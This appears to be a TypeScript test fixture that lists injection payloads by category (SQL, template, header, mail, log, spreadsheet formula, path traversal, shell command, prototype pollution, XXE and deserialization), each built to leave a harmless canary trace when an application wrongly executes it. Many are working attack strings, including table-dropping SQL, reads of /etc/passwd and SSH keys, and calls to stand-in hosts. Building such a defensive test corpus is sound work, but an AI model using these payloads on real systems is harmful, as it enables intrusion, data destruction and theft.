import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { SCRIPTS } from './script-injections.ts'

// Texts that do something where they are taken for code. Each leaves one of these traces, which are nowhere by themselves.

/** In a command: a file. */
export const HIT_FILE = join(tmpdir(), 'zqhit')
/** In a template: this product, which is in no payload. */
export const HIT_PRODUCT = String(7331 * 1337)
/** In a path or an XML entity: the content of this file. */
export const HIT_CONTENT = /root:x:0:0|\[boot loader\]/
/** In a header, a log, a mail, a script or a prototype: this word as a name. */
const HIT = 'zqhit'

const SUM = '7331*1337'

const cross = (left: readonly string[], right: readonly string[]): string[] =>
  left.flatMap((one) => right.map((two) => one + two))

const SQL = [
  ...cross(["'", '"', "')", "'))", '1', "%'", "\\'", '`', '$$', "E'\\''"], [' OR 1=1--', '; DELETE FROM users--']),
  ...cross(
    ["' UNION SELECT ", '1) UNION ALL SELECT '],
    [
      'NULL--',
      'version()--',
      'encrypted_password FROM auth.users--',
      'NULL,NULL,NULL--',
      "pg_read_file('/etc/passwd')--",
    ],
  ),
  ...cross(
    ["'; ", '1; ', "'); "],
    [
      'DROP TABLE campaigns CASCADE--',
      'SELECT pg_sleep(9)--',
      "UPDATE users SET role='administrator'--",
      'TRUNCATE ledger_entries--',
      `COPY (SELECT 1) TO PROGRAM 'touch ${HIT_FILE}'--`,
      'BEGIN; ROLLBACK; COMMIT--',
    ],
  ),
  "'||pg_sleep(9)||'",
  "' AND 1=(SELECT count(*) FROM pg_sleep(9))--",
  "' AND ascii(substr((SELECT current_user),1,1))>64--",
  "' AND extractvalue(1,concat(0x7e,version()))--",
  "admin'--",
  "admin' #",
  "'/**/OR/**/1=1--",
  "' OR ''='",
  "x' AND email IS NULL; --",
  '%',
  '_',
  '%_%',
  '\\',
  '$1',
  '?',
  ':name',
  "'::text",
  '\'{"a":1}\'::jsonb',
  '{"$gt":""}',
  '{"$where":"sleep(9000)"}',
  "' || '1'=='1",
]

const TEMPLATES = [
  `{{${SUM}}}`,
  `\${${SUM}}`,
  `#{${SUM}}`,
  `*{${SUM}}`,
  `@{${SUM}}`,
  `<%= ${SUM} %>`,
  `[[\${${SUM}}]]`,
  `{{{${SUM}}}}`,
  `{%= ${SUM} %}`,
  `\${{${SUM}}}`,
  `#set($x=${SUM})$x`,
  `@(${SUM})`,
  `{${SUM}}`,
  `$((${SUM}))`,
  `{{constructor.constructor('return ${SUM}')()}}`,
  `{{[].pop.constructor('return ${SUM}')()}}`,
  `{{#with "s" as |s|}}${SUM}{{/with}}`,
  `{% set x=${SUM} %}{{x}}`,
  `{{request.application.__globals__}}`,
  `{{config.items()}}`,
  `<%- global.process.mainModule %>`,
  `{php}echo ${SUM};{/php}`,
  `<?php echo ${SUM}; ?>`,
  `<?= ${SUM} ?>`,
  `<!--#exec cmd="touch ${HIT_FILE}"-->`,
  '<!--#include virtual="/etc/passwd"-->',
  `\${jndi:ldap://${HIT}.example/a}`,
  `\${env:PATH}`,
  `%{(#a=${SUM})}`,
  `T(java.lang.Runtime).getRuntime().exec('touch ${HIT_FILE}')`,
]

const BREAKS = ['\r\n', '\n', '\r', '%0d%0a', '\\r\\n', '\u2028', '\u0085', '\u560A\u560D']
const HEADERS = cross(
  BREAKS.map((line) => `a${line}`),
  [`X-Zqhit: 1`, `Set-Cookie: ${HIT}=1`, `Location: //${HIT}.example`, `\r\n<${HIT}>`],
)
const MAILS = [
  ...cross(
    BREAKS.slice(0, 5).map((line) => `Asha${line}`),
    [`Bcc: ${HIT}@example.com`, `Cc: ${HIT}@example.com`, `Content-Type: text/html`, `Subject: ${HIT}`],
  ),
  `asha@example.com,${HIT}@example.com`,
  `asha@example.com;${HIT}@example.com`,
  `"Asha" <${HIT}@example.com>`,
  `asha@example.com>\r\nRCPT TO:<${HIT}@example.com`,
  `asha@example.com%0ABcc:${HIT}@example.com`,
  `.\r\nMAIL FROM:<${HIT}@example.com>`,
  `=?utf-8?Q?=0D=0ABcc:_${HIT}@example.com?=`,
]
const LOGS = [
  `a\n{"level":60,"msg":"${HIT}"}`,
  `a\r\n[ERROR] ${HIT}`,
  `\u001B[2J${HIT}`,
  `\u001B]8;;http://${HIT}.example\u0007`,
  `a\u0000${HIT}`,
  `\u009B31m${HIT}`,
  `a\u0008\u0008\u0008${HIT}`,
  `%n%s%x${HIT}`,
  `a\n\tat ${HIT} (file.js:1:1)`,
]

const CALCULATIONS = [
  "cmd|'/C calc'!A0",
  `HYPERLINK("http://${HIT}.example","x")`,
  `${SUM}`,
  `WEBSERVICE("http://${HIT}.example")`,
]
const FORMULAS = [
  ...cross(['=', '+', '-', '@', '\t=', '\r=', "'=", '＝'], CALCULATIONS),
  `"=${SUM}"`,
  `a\n=${SUM}`,
  `a",=${SUM},"`,
  `a;=${SUM}`,
  `=IMPORTXML(CONCAT("http://${HIT}.example/",A1),"//a")`,
  '=DDE("cmd";"/C calc";"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
]

const UPWARDS = ['../', '..\\', '..%2f', '%2e%2e/', '....//', '..%c0%af', '..;/', '..%252f']
const PATHS = [
  ...cross(
    UPWARDS.map((up) => up.repeat(6)),
    ['etc/passwd', 'proc/self/environ'],
  ),
  '/etc/passwd',
  '/etc/passwd%00.png',
  'file:///etc/passwd',
  'C:\\boot.ini',
  '\\\\zqhit.example\\share',
  'php://filter/resource=/etc/passwd',
  '/proc/self/cwd/package.json',
  '~/.ssh/id_rsa',
  'CON',
  'a'.repeat(300),
  '.',
  '..',
  '.htaccess',
]

const TOUCH = `touch ${HIT_FILE}`
const COMMANDS = [
  ...cross(['; ', '| ', '|| ', '&& ', '& ', '\n', '\r\n'], [TOUCH, `${TOUCH} #`, `${TOUCH};`]),
  `\`${TOUCH}\``,
  `$(${TOUCH})`,
  `<(${TOUCH})`,
  `'; ${TOUCH}; '`,
  `"; ${TOUCH}; "`,
  `$(IFS=_;cmd=touch_${HIT_FILE};$cmd)`,
  `{touch,${HIT_FILE}}`,
  `;${TOUCH.replace(' ', '${IFS}')}`,
  `() { :;}; ${TOUCH}`,
  `--output=${HIT_FILE}`,
  `-o${HIT_FILE}`,
  `%COMSPEC% /C echo > ${HIT_FILE}`,
]

const PROTOTYPES = [
  '__proto__',
  'constructor',
  'prototype',
  `__proto__[${HIT}]`,
  `constructor.prototype.${HIT}`,
  `{"__proto__":{"${HIT}":1}}`,
  `{"constructor":{"prototype":{"${HIT}":1}}}`,
  'hasOwnProperty',
  'toString',
  'valueOf',
]

const DOCUMENTS = [
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://zqhit.example/a.dtd">%b;]>',
  '<xi:include href="file:///etc/passwd" parse="text"/>',
  '*)(uid=*))(|(uid=*',
  '*)(&',
  "' or '1'='1' or ''='",
  "//user[name()='a']",
  '!!js/function "function(){}"',
  '- !!python/object/apply:os.system ["true"]',
  'O:8:"stdClass":0:{}',
  'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
  '{"rce":"_$$ND_FUNC$$_function (){}()"}',
]

/** The payloads by what would take them for code. */
export const INJECTIONS = {
  SQL,
  scripts: SCRIPTS,
  templates: TEMPLATES,
  headers: HEADERS,
  mails: MAILS,
  logs: LOGS,
  formulas: FORMULAS,
  paths: PATHS,
  commands: COMMANDS,
  prototypes: PROTOTYPES,
  documents: DOCUMENTS,
} as const satisfies Readonly<Record<string, readonly string[]>>
